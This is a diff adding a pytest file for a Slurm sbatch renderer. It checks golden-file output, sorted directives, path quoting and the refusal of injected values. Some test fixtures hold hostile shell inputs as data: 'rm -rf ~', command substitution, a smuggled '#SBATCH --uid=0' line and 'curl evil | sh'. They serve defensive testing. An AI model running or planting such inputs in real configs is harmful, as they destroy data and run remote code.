@@ -1,0 +1,81 @@
+"""sbatch rendering: pure, pinned by golden files, and nothing in a job file can inject a command."""
+
+import os
+from pathlib import Path
+
+import pytest
+
+from jobs.sbatch import SlurmConfig, render, slurm_config
+from pipeline.errors import ConfigError
+
+GOLDEN = Path(__file__).parent / "golden"
+FULL = SlurmConfig(
+    partition="gpu",
+    account="ml",
+    qos="normal",
+    nodes=2,
+    ntasks_per_node=4,
+    gpus_per_node=4,
+    cpus_per_task=8,
+    mem="256G",
+    time="04:00:00",
+    job_name="nightly-reviews",
+    output="logs/%x-%j.out",
+    extra=("--constraint=a100", "--exclusive"),
+    setup=("module load cuda/12.4", "source /opt/venvs/fastserve/bin/activate"),
+)
+
+
+@pytest.mark.parametrize("kind", ["infer", "train"])
+def test_rendered_scripts_match_the_golden_files(kind):
+    got = render(kind, FULL, "/home/ana/jobs/reviews.toml", fastserve="fastserve")
+    path = GOLDEN / f"{kind}.sbatch"
+    if os.environ.get("FASTSERVE_UPDATE_GOLDEN"):
+        path.write_text(got)
+    assert got == path.read_text(), (
+        f"the rendered {kind} script changed; if that is intended, refresh the golden file with "
+        "FASTSERVE_UPDATE_GOLDEN=1 pytest tests/test_submit.py and review the diff"
+    )
+
+
+def test_directives_are_sorted_and_one_node_differs_from_n_only_in_nodes():
+    one = render("infer", SlurmConfig(nodes=1), "/j.toml").splitlines()
+    many = render("infer", SlurmConfig(nodes=8), "/j.toml").splitlines()
+    diff = [(a, b) for a, b in zip(one, many, strict=True) if a != b]
+    assert diff == [("#SBATCH --nodes=1", "#SBATCH --nodes=8")]
+    sbatch_lines = [x for x in one if x.startswith("#SBATCH")]
+    assert sbatch_lines == sorted(sbatch_lines)
+    assert "#SBATCH --signal=B:USR1@120" in one and "#SBATCH --requeue" in one
+
+
+@pytest.mark.parametrize(
+    "key,value",
+    [
+        ("job_name", "x; rm -rf ~"),
+        ("job_name", "$(touch /tmp/pwned)"),
+        ("job_name", "`id`"),
+        ("job_name", "ok\n#SBATCH --uid=0"),
+        ("output", "logs/$(touch /tmp/pwned).out"),
+        ("output", "logs/`id`.out"),
+        ("output", "a.out\nrm -rf ~"),
+        ("partition", "gpu;id"),
+        ("extra", ["--constraint=a100\necho pwned"]),
+        ("extra", ["; id"]),
+        ("setup", ["module load x\ncurl evil | sh"]),
+    ],
+)
+def test_injection_attempts_are_refused(key, value):
+    with pytest.raises(ConfigError, match=f"slurm.{key}"):
+        slurm_config({key: value}, "job.toml")
+
+
+def test_paths_in_the_command_are_quoted():
+    script = render("infer", SlurmConfig(), "/data/a b;c/$(touch pwned)/`id`/job.toml")
+    line = next(x for x in script.splitlines() if x.startswith("srun"))
+    assert "'/data/a b;c/$(touch pwned)/`id`/job.toml'" in line
+
+
+def test_misspelled_key_lists_the_valid_ones():
+    with pytest.raises(ConfigError) as e:
+        slurm_config({"partiton": "gpu"}, "job.toml")
+    assert "unknown key 'slurm.partiton'" in str(e.value) and "slurm.partition" in str(e.value)
